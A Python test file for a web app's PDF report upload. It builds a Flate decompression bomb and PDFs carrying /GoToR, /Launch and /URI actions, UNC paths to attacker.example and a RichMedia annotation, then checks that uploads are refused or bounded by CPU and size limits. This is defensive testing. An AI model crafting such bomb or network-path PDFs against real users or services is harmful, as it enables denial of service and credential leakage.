"""Report PDFs as attacks (issue 15): a Flate bomb that took 52 s of a request worker, and
links the active-content check missed (/GoToR, network paths, RichMedia annotations)."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)
from sqlalchemy import select

from app.core.extensions import db
from app.measures import report_text
from app.measures.models import Attachment
from app.measures.pdf_safety import active_content_problem
from tests.api.conftest import bearer, make_token
from tests.conftest import make_measure, make_user

# Each repeat costs pypdf about 20 µs of CPU and the file 0.01 bytes: 400,000 are ~9 s of CPU
# in 5 KB, an eighth of the 8 KB file.
BOMB_REPEATS = 400_000


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flate_bomb(repeats: int = BOMB_REPEATS) -> bytes:
    """One page whose compressed content stream shows "a" `repeats` times."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 12 Tf " + b"(a) Tj " * repeats + b"ET")
    page[NameObject("/Contents")] = writer._add_object(content.flate_encode())
    return _write(writer)


def _with_open_action(action: DictionaryObject) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/OpenAction")] = action
    return _write(writer)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _filespec(path: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject(path)}
    )


def _rich_media_annotation() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): ArrayObject([]),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


ATTACK_PDFS = {
    "GoToR to another file": lambda: _with_open_action(
        _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([]))
    ),
    "UNC path in an open action": lambda: _with_open_action(
        _action("/GoTo", F=_filespec("\\\\attacker.example\\share\\x.pdf"))
    ),
    "UNC URI in an open action": lambda: _with_open_action(
        _action("/URI", URI=TextStringObject("\\\\attacker.example\\share"))
    ),
    "UNC launch target": lambda: _with_open_action(
        _action("/Launch", Win=DictionaryObject({NameObject("/F"): TextStringObject("//h/s")}))
    ),
    "RichMedia annotation": _rich_media_annotation,
}


@pytest.mark.parametrize("name", sorted(ATTACK_PDFS))
def test_the_pdf_check_refuses(name):
    problem = active_content_problem(PdfReader(io.BytesIO(ATTACK_PDFS[name]()), strict=False))
    assert problem and problem.startswith("contains "), problem


@pytest.mark.parametrize("name", sorted(ATTACK_PDFS))
def test_an_upload_of_it_is_a_422(app, client, name):
    owner = make_user()
    measure = make_measure(owner)
    answer = client.post(
        f"/api/v1/measures/{measure.id}/evaluations/0/reports",
        headers=bearer(make_token(owner)),
        data={"file": (io.BytesIO(ATTACK_PDFS[name]()), "report.pdf")},
        content_type="multipart/form-data",
    )
    assert answer.status_code == 422


def test_reading_a_flate_bomb_is_stopped_by_the_cpu_limit():
    """The worker process is stopped by its CPU-time limit: the limit, not the file, decides
    how long it runs."""
    result = report_text.extract(
        flate_bomb(), max_pages=10, max_chars=100_000, cpu_seconds=1, memory_bytes=0
    )
    assert not result.complete
    assert result.stopped_by == "CPU time limit"
    assert len(result.text) <= 100_000


def test_characters_and_pages_are_bounded():
    small = flate_bomb(2_000)  # "a" 2,000 times on one page
    by_chars = report_text.extract(small, max_pages=10, max_chars=500, cpu_seconds=30)
    assert by_chars.stopped_by == "character limit" and len(by_chars.text) == 500

    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(100, 100)
    by_pages = report_text.extract(_write(writer), max_pages=2, max_chars=500, cpu_seconds=30)
    assert by_pages.stopped_by == "page limit"


def test_an_upload_answers_before_its_text_is_read(app, client, monkeypatch):
    """The attack: upload the bomb; the request worker must not be the one reading it. The
    answer comes with the text still empty and the reading queued as a job of its own."""
    jobs = []
    monkeypatch.setitem(app.config, "REPORT_TEXT_IN_BACKGROUND", True)
    monkeypatch.setattr(report_text, "start_job", lambda _app, job: jobs.append(job))
    owner = make_user()
    measure = make_measure(owner)
    answer = client.post(
        f"/api/v1/measures/{measure.id}/evaluations/0/reports",
        headers=bearer(make_token(owner)),
        data={"file": (io.BytesIO(flate_bomb()), "bomb.pdf")},
        content_type="multipart/form-data",
    )
    assert answer.status_code == 201
    attachment = db.session.scalars(select(Attachment)).one()
    assert attachment.text == ""
    assert len(jobs) == 1

    monkeypatch.setitem(app.config, "REPORT_TEXT_CPU_SECONDS", 1)
    jobs[0]()  # what the background thread runs
    db.session.expire_all()
    assert len(attachment.text) <= app.config["REPORT_TEXT_MAX_CHARS"]
    assert report_text.missing_text() == []  # read (as far as the limits let it): not again
